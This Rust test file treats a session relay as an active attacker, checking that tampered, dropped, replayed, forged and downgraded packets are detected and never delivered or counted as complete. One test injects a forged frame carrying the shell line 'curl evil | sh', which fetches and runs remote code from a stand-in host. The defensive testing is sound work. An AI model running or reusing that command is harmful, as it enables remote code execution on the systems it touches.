//! A relay that is the enemy: it sees every packet, and may change, drop, double, swap, keep and invent them.
//!
//! Whatever it does, no byte reaches an application that the other's did not send, nothing happens twice, and no end
//! calls a session complete that was not.

use std::cell::RefCell;
use std::collections::VecDeque;
use std::rc::Rc;
use std::time::Duration;

use bz_core::access::Mode;
use bz_core::id::BootId;
use bz_core::signed::{ObjectError, Signed};
use bz_protocol::Misbehavior;
use bz_protocol::client::Action;
use bz_protocol::frame::{Fin, HEADER_BYTES, Kind};
use bz_protocol::gate::{Denial, Gate};
use bz_protocol::packet::Packet;
use bz_protocol::refusal::Code;
use bz_protocol::session::{End, Input};

use crate::sim::{Random, Side, Sim, Tamper};
use crate::stage::{AgentStage, ClientStage, FIRST, agent_end, client_end};
use crate::world::{ORG, World, key};

const SYN: u8 = 1;
const SYN_ACK: u8 = 2;
const DATA: u8 = 3;
const DATA_ACK: u8 = 4;
const CONTROL: u8 = 5;
const REFUSAL: u8 = 6;
const RESUME: u8 = 7;

/// Seeds of a run: a few in the default size, many with `BZ_TEST=full`.
fn seeds() -> std::ops::Range<u64> {
    if std::env::var("BZ_TEST").is_ok_and(|size| size == "full") { 0..200 } else { 0..4 }
}

fn world(seed: u64) -> World {
    let mut world = World::new();
    world.mode = if seed.is_multiple_of(2) { Mode::Inspected } else { Mode::Sealed };
    world
}

/// A session that is cut twice when nothing is under way, ends, and is then left alone for good.
fn run(seed: u64, tamper: Tamper) -> Sim {
    let mut sim = Sim::new(&world(seed), seed);
    sim.client_app.to_send = 300;
    sim.agent_app.to_send = 2000;
    sim.tamper = Some(tamper);
    for _ in 0..3 {
        sim.cut();
        sim.connect();
        sim.settle();
    }
    sim.client.act(sim.now, Action::Finish(Fin::Closed)).unwrap_or_default();
    sim.settle();
    sim.cut();
    sim.pass(Duration::from_secs(125));
    sim.check_nothing_foreign(&format!("seed {seed}"));
    sim
}

type Log = Rc<RefCell<Vec<(Side, Vec<u8>)>>>;

/// What an honest relay sees.
fn honest(seed: u64) -> Vec<(Side, Vec<u8>)> {
    let log = Log::default();
    let copy = Rc::clone(&log);
    let sim = run(
        seed,
        Box::new(move |to, bytes| {
            copy.borrow_mut().push((to, bytes.to_vec()));
            vec![bytes.to_vec()]
        }),
    );
    assert_eq!((sim.client_ended.clone(), sim.agent_ended.clone()), both(&End::Completed(Fin::Exited(0))));
    sim.check_exact("an honest relay");
    log.take()
}

fn both(end: &End) -> (Option<End>, Option<End>) {
    (Some(end.clone()), Some(end.clone()))
}

/// A relay that does something to the packet of this index and passes the rest.
fn at(index: usize, mut attack: impl FnMut(&[u8]) -> Vec<Vec<u8>> + 'static) -> Tamper {
    let mut seen = 0;
    Box::new(move |_, bytes| {
        seen += 1;
        if seen == index + 1 { attack(bytes) } else { vec![bytes.to_vec()] }
    })
}

/// A relay that does something to the first packets of a kind for one end.
fn first_of(to: Side, kind: u8, mut attack: impl FnMut(&[u8]) -> Vec<Vec<u8>> + 'static) -> Tamper {
    let mut done = false;
    Box::new(move |side, bytes| {
        if !done && side == to && bytes[0] == kind {
            done = true;
            return attack(bytes);
        }
        vec![bytes.to_vec()]
    })
}

/// PR-TAMPER-1 (H1, H3): any bit of any packet, changed: who gets it notices, and the other is left without an end.
#[test]
fn every_changed_bit_is_noticed() {
    for seed in seeds() {
        let (mut random, packets) = (Random(seed), honest(seed));
        let last_resumption = packets.iter().rposition(|(_, p)| p[0] == RESUME).unwrap();
        for (index, (to, packet)) in packets.iter().enumerate() {
            // After the last resumption no other comes, and after its last word nobody listens.
            let last_word =
                packets.iter().rposition(|(side, p)| side == to && matches!(p[0], DATA_ACK | DATA)).unwrap();
            if (packet[0] >= RESUME && index >= last_resumption) || (*to == Side::Client && index > last_word) {
                continue;
            }
            let last = packet.len() as u64 - 1;
            for position in [0, last, random.below(packet.len() as u64), 1 + random.below(last)] {
                let (position, bit) = (position as usize, 1 << random.below(8));
                let sim = run(
                    seed,
                    at(index, move |bytes| {
                        let mut bytes = bytes.to_vec();
                        bytes[position] ^= bit;
                        vec![bytes]
                    }),
                );
                let what = format!("seed {seed}: packet {index}, {} for {to:?}, byte {position}", packet[0]);
                noticed(&what, *to, packet[0], &sim);
            }
        }
    }
}

fn noticed(what: &str, to: Side, kind: u8, sim: &Sim) {
    let (client, agent) = (sim.client_ended.as_ref(), sim.agent_ended.as_ref());
    let tampered = |end: Option<&End>| matches!(end, Some(End::Misbehavior(_)));
    let as_should_be = match (kind, to) {
        (SYN, _) => {
            matches!(client, Some(End::Reported(_)))
                && matches!(agent, Some(End::Refused(_) | End::Misbehavior(_) | End::Timeout))
                && sim.admitted.is_none()
        }
        (SYN_ACK, _) => tampered(client) && agent == Some(&End::Timeout) && sim.admitted.is_none(),
        (DATA | DATA_ACK | CONTROL, Side::Agent) => tampered(agent) && !matches!(client, Some(End::Refused(_))),
        (DATA | DATA_ACK | CONTROL, Side::Client) => tampered(client) && agent.is_some(),
        // A resumption that fails is tried again on the next carrier.
        _ => client == agent && client == Some(&End::Completed(Fin::Exited(0))),
    };
    assert!(as_should_be, "{what}: client {client:?}, agent {agent:?}");
    let completed = |end: Option<&End>| matches!(end, Some(End::Completed(_)));
    if completed(client) {
        assert_eq!(sim.client_app.received.len(), sim.agent_app.to_send, "{what}: complete, and bytes are missing");
    }
    if completed(agent) {
        assert_eq!(sim.agent_app.received.len(), sim.client_app.to_send, "{what}: complete, and bytes are missing");
    }
}

/// PR-TAMPER-2 (H3, H4): a packet left out, doubled, or moved behind the next: never twice, never complete without all.
#[test]
fn packets_left_out_doubled_and_swapped_are_noticed_or_made_good() {
    for seed in seeds() {
        let packets = honest(seed);
        for (index, (to, packet)) in packets.iter().enumerate() {
            let what = |how: &str| format!("seed {seed}: packet {index}, {} for {to:?}, {how}", packet[0]);
            let dropped = run(seed, at(index, |_| vec![]));
            complete_or_ended(&what("left out"), &dropped);
            let doubled = run(seed, at(index, |bytes| vec![bytes.to_vec(), bytes.to_vec()]));
            complete_or_ended(&what("doubled"), &doubled);
            if matches!(packet[0], DATA | DATA_ACK | CONTROL) {
                let end = if *to == Side::Agent { &doubled.agent_ended } else { &doubled.client_ended };
                let rule = End::Misbehavior(Misbehavior::OutOfOrder);
                // The last acknowledgement may come after both ends have said good-bye.
                let ended = matches!(end, Some(End::Completed(_))) && index + 6 >= packets.len();
                assert!(end.as_ref() == Some(&rule) || ended, "{}: {end:?}", what("doubled"));
            }
            complete_or_ended(&what("swapped"), &run(seed, swap(index)));
        }
    }
}

/// A relay that keeps one packet back until the next one for the same end has passed.
fn swap(index: usize) -> Tamper {
    let (mut seen, mut kept) = (0, VecDeque::new());
    Box::new(move |to, bytes| {
        seen += 1;
        if seen == index + 1 {
            kept.push_back((to, bytes.to_vec()));
            return vec![];
        }
        let mut packets = vec![bytes.to_vec()];
        if let Some((_, late)) = kept.pop_front_if(|(side, _): &mut (Side, Vec<u8>)| *side == to) {
            packets.push(late);
        }
        packets
    })
}

fn complete_or_ended(what: &str, sim: &Sim) {
    let (client, agent) = (sim.client_ended.as_ref(), sim.agent_ended.as_ref());
    assert!(client.is_some() && agent.is_some(), "{what}: no end: client {client:?}, agent {agent:?}");
    if matches!(client, Some(End::Completed(_))) {
        assert_eq!(sim.client_app.received.len(), sim.agent_app.to_send, "{what}: complete, and bytes are missing");
    }
    if matches!(agent, Some(End::Completed(_))) {
        assert_eq!(sim.agent_app.received.len(), sim.client_app.to_send, "{what}: complete, and bytes are missing");
    }
}

/// PR-REPLAY-1 (H2): a recorded `Syn` opens nothing: not beside its session, not after it, not at another agent, not
/// after a restart.
#[test]
fn a_replayed_opening_does_nothing() {
    let world = World::new();
    let packet = Packet::Syn(Box::new(world.syn())).encode().unwrap();
    let replay = |gate: Gate, world: &World| {
        let mut stage = AgentStage::new(world);
        (stage.gate, stage.syn) = (gate, World::new().syn());
        let mut stage = stage.judging();
        let verdict = stage.gate.admit(stage.opening.as_ref().unwrap(), Some(&World::jwks()), stage.now);
        (verdict.map(|_| ()), stage)
    };
    // Before the session is confirmed, the replay gets an answer that only the client's own key can use.
    let (verdict, stage) = replay(world.gate(), &world);
    assert_eq!(verdict, Ok(()));
    let mut stage = AgentStage { opening: None, ..stage };
    stage.agent = bz_protocol::agent::Agent::new(world.agent(), stage.now);
    stage.agent.handle(stage.now, Input::CarrierUp { carrier: FIRST, random: [0; 32] });
    let mut stage = stage.unconfirmed();
    let mut thief = World::new();
    thief.client_key = key(90);
    let (syn, ack) = (stage.syn.syn.clone(), stage.ack.clone().unwrap());
    let header = [[0; 16].as_slice(), &[Kind::Checkpoint.byte(), 0, 0, 0, 0], &[0; 60]].concat();
    let forged = Packet::Data(header).encode().unwrap();
    assert_eq!(agent_end(&stage.say(FIRST, &forged)), Some(End::Misbehavior(Misbehavior::BadTag)));
    assert_eq!(
        (stage.admitted.is_none(), syn.digest() == ack.open(&world.agent_key.public(), ORG).unwrap().syn),
        (true, true)
    );
    // After it.
    let used = AgentStage::new(&world).open().gate;
    assert_eq!(replay(used, &world).0, Err(Denial::GrantUsed));
    // At another agent.
    let other = World { agent_key: key(91), ..World::new() };
    assert_eq!(replay(other.gate(), &other).0, Err(Denial::OtherAgent));
    // After a restart, which forgot the grant.
    let mut restarted = world.gate();
    restarted.boot = BootId::from_bytes([92; 16]);
    assert_eq!(replay(restarted, &world).0, Err(Denial::GrantFor("start of the agent")));
    // Inside an open session.
    let mut stage = AgentStage::new(&world).open();
    assert_eq!(agent_end(&stage.say(FIRST, &packet)), Some(End::Misbehavior(Misbehavior::OutOfTurn)));
}

/// PR-REPLAY-2 (H3): frames kept and sent again, frames of another session, and an end's own frames sent back to it.
#[test]
fn frames_are_good_once_and_in_their_place() {
    for mode in [Mode::Inspected, Mode::Sealed] {
        let mut world = World::new();
        world.mode = mode;
        let mut other = AgentStage::new(&World { client_key: key(80), ..world.clone() }).open();
        let foreign = other.peer().data(Kind::Bytes, 0, b"reboot");
        let mut stage = AgentStage::new(&world).open();
        assert_eq!(agent_end(&stage.say(FIRST, &foreign)), Some(End::Misbehavior(Misbehavior::BadTag)), "spliced");
        let mut stage = AgentStage::new(&world).open();
        let typed = stage.peer().data(Kind::Bytes, 0, b"reboot\n");
        assert_eq!(agent_end(&stage.say(FIRST, &typed)), None);
        let again = stage.say(FIRST, &typed);
        assert_eq!(agent_end(&again), Some(End::Misbehavior(Misbehavior::OutOfOrder)), "replayed");
        assert_eq!(again.events.len(), 1, "executed twice: {again:?}");
        let mut stage = ClientStage::sent(&world).open();
        stage.client.act(stage.now, Action::Bytes { stream: 0, bytes: b"x".to_vec() }).unwrap();
        let mut own = stage.drain().packets.pop().unwrap().1;
        own[0] = DATA_ACK;
        assert_eq!(client_end(&stage.say(FIRST, &own)), Some(End::Misbehavior(Misbehavior::BadTag)), "sent back");
    }
}

/// PR-TAMPER-3 (H5): one byte of output altered, or a frame of the relay's own: nothing of it is shown or run.
#[test]
fn altered_and_invented_bytes_reach_nobody() {
    let mut seen = 0;
    let alter: Tamper = Box::new(move |to, bytes| {
        let mut bytes = bytes.to_vec();
        let output = to == Side::Client && bytes[0] == DATA_ACK && bytes[17] == Kind::Bytes.byte();
        seen += usize::from(output);
        if output && seen == 3 {
            bytes[1 + HEADER_BYTES + 16] ^= 0x20;
        }
        vec![bytes]
    });
    let sim = run(0, alter);
    assert_eq!(sim.client_ended, Some(End::Misbehavior(Misbehavior::BadTag)));
    assert!(sim.client_app.received.len() < sim.agent_app.to_send);

    for (to, kind) in [(Side::Agent, DATA), (Side::Client, DATA_ACK)] {
        let mut sim = Sim::new(&World::new(), 1);
        sim.connect();
        sim.settle();
        let header = [1_u64.to_be_bytes(), 1_u64.to_be_bytes()].concat();
        let own = [&[kind], header.as_slice(), &[1, 0, 0, 0, 0], &[0; 16], b"curl evil | sh\n", &[0; 16]].concat();
        sim.inject(to, &own);
        let end = if to == Side::Agent { &sim.agent_ended } else { &sim.client_ended };
        assert_eq!(end, &Some(End::Misbehavior(Misbehavior::BadTag)), "{to:?}");
        assert!(sim.agent_app.received.is_empty() && sim.client_app.received.is_empty());
    }
}

/// PR-HS-6 (H5): a refusal out of nowhere is hearsay before there are keys, and tampering after.
#[test]
fn a_forged_refusal_is_never_more_than_hearsay() {
    for code in Code::ALL {
        let forged = Packet::Refusal(code).encode().unwrap();
        let sim = run(0, first_of(Side::Client, SYN_ACK, move |_| vec![forged.clone()]));
        assert_eq!(sim.client_ended, Some(End::Reported(code)));
        assert_eq!(End::Reported(code).to_string(), format!("reported, not proved: {code}"));
        assert_eq!(sim.agent_ended, Some(End::Timeout), "nothing began: {code:?}");
        assert!(sim.admitted.is_none());
        let forged = Packet::Refusal(code).encode().unwrap();
        let sim = run(0, first_of(Side::Client, DATA_ACK, move |_| vec![forged.clone()]));
        assert_eq!(sim.client_ended, Some(End::Misbehavior(Misbehavior::OutOfTurn)), "{code:?}");
    }
    assert_eq!(Packet::Refusal(Code::Grant).encode().unwrap()[0], REFUSAL);
}

/// PR-HS-7 (H6): an answer by another key than the pinned one, or to another opening, is not the agent's.
#[test]
fn only_the_pinned_agent_answers() {
    let world = World::new();
    let other = World { agent_key: key(70), ..World::new() };
    let mut stage = ClientStage::sent(&world);
    let forged = Packet::SynAck(Box::new(other.answer(&stage.syn))).encode().unwrap();
    assert_eq!(client_end(&stage.say(FIRST, &forged)), Some(End::Misbehavior(Misbehavior::OtherAgent)));
    let mut stage = ClientStage::sent(&world);
    let elsewhere = World { user: Some("bob"), ..World::new() }.syn().syn;
    let moved = Packet::SynAck(Box::new(world.answer(&elsewhere))).encode().unwrap();
    assert_eq!(client_end(&stage.say(FIRST, &moved)), Some(End::Misbehavior(Misbehavior::OtherAgent)));
}

/// PR-HS-8 (H8): versions taken out of the list break the signature; a version that was not offered is not taken.
#[test]
fn nobody_talks_two_ends_into_another_version() {
    let world = World::new();
    let mut stage = AgentStage::new(&world);
    let bytes = Packet::Syn(Box::new(stage.syn.clone())).encode().unwrap();
    let list = [0, 0, 0, 0, 0, 0, 0, 1, 0, 1];
    let at = bytes.windows(10).position(|w| w == list).expect("the list of versions") + 9;
    let mut changed = bytes;
    changed[at] = 0;
    let Ok(Packet::Syn(syn)) = Packet::decode(&changed) else { panic!("still a Syn") };
    stage.syn = *syn;
    let mut stage = stage.judging();
    let verdict = stage.gate.admit(stage.opening.as_ref().unwrap(), Some(&World::jwks()), stage.now);
    assert_eq!(verdict.map(|_| ()), Err(Denial::Syn(ObjectError::Signature)));
    for (version, suite) in [(0, 1), (2, 1), (1, 0), (1, 2)] {
        let mut stage = ClientStage::sent(&world);
        let body = bz_protocol::handshake::SynAck { version, suite, ..world.answer_body(&stage.syn) };
        let ack = Packet::SynAck(Box::new(Signed::seal(&body, ORG, &world.agent_key).unwrap())).encode().unwrap();
        assert_eq!(client_end(&stage.say(FIRST, &ack)), Some(End::Misbehavior(Misbehavior::Downgrade)));
    }
}

/// PR-MODE-1: a server that grants another mode than the client signed gets no session of either mode.
#[test]
fn another_mode_than_asked_for_is_no_session() {
    for (asked, granted) in [(Mode::Sealed, Mode::Inspected), (Mode::Inspected, Mode::Sealed)] {
        let mut world = World::new();
        world.mode = asked;
        let mut opening = world.opening();
        opening.grant = world.sign_grant(&bz_core::grant::GrantBody { mode: granted, ..world.grant_body() });
        let mut sim = Sim::new(&world, 1);
        sim.client = bz_protocol::client::Client::new(opening, sim.now).unwrap();
        sim.connect();
        sim.settle();
        assert_eq!(sim.denials, [Denial::GrantFor("mode")]);
        assert_eq!(
            (&sim.client_ended, &sim.agent_ended),
            (&Some(End::Reported(Code::Grant)), &Some(End::Refused(Code::Grant)))
        );
    }
}

/// PR-END-1 (H5): the last frames held back and the carrier closed for good: never "completed", at either end.
#[test]
fn a_stream_cut_short_is_never_complete() {
    let packets = honest(0);
    let last = |to: Side, kind: u8| packets.iter().rposition(|(side, p)| *side == to && p[0] == kind).unwrap();
    // From the frame that signs the agent's end, from the end itself, from the last output.
    for back in [0, 1, 2] {
        let from = (0..=last(Side::Client, DATA_ACK))
            .rev()
            .filter(|at| packets[*at].0 == Side::Client && packets[*at].1[0] == DATA_ACK)
            .nth(back)
            .unwrap();
        let mut seen = 0;
        let sim = run(
            0,
            Box::new(move |to, bytes| {
                seen += 1;
                if to == Side::Client && seen > from { vec![] } else { vec![bytes.to_vec()] }
            }),
        );
        assert_eq!(sim.client_ended, Some(End::Lost), "held back from packet {from}");
        assert_ne!(sim.agent_ended, Some(End::Completed(Fin::Exited(0))), "held back from packet {from}");
    }
    // The person does not wait: the same session, given up.
    let mut sim = Sim::new(&World::new(), 1);
    sim.agent_app.to_send = 1000;
    sim.connect();
    sim.settle();
    sim.cut();
    sim.client.abandon();
    sim.pass(Duration::from_secs(1));
    assert_eq!(sim.client_ended, Some(End::Truncated));
    assert_eq!(sim.client_app.received.len(), 1000);
    assert_eq!(End::Truncated.to_string(), "the session was cut short: its end is not signed");
}

/// PR-CHK-5: checkpoints cannot be withheld: they are numbered like everything else.
#[test]
fn withheld_checkpoints_are_a_gap() {
    for (to, kind) in [(Side::Client, DATA_ACK), (Side::Agent, DATA)] {
        let mut passed = 0;
        let sim = run(
            0,
            Box::new(move |side, bytes| {
                let checkpoint = side == to && bytes[0] == kind && bytes[17] == Kind::Checkpoint.byte();
                passed += usize::from(checkpoint);
                if checkpoint && passed == 2 { vec![] } else { vec![bytes.to_vec()] }
            }),
        );
        let end = if to == Side::Client { &sim.client_ended } else { &sim.agent_ended };
        // Whoever misses it is either told of a gap by the next frame, or fetches it with the next carrier.
        // After its turn it names frames that the acknowledgements after it were the last to name.
        let rules = [Misbehavior::OutOfOrder, Misbehavior::PeerNumber].map(|rule| Some(End::Misbehavior(rule)));
        assert!(matches!(end, Some(End::Completed(_))) || rules.contains(end), "{to:?}: {end:?}");
    }
}
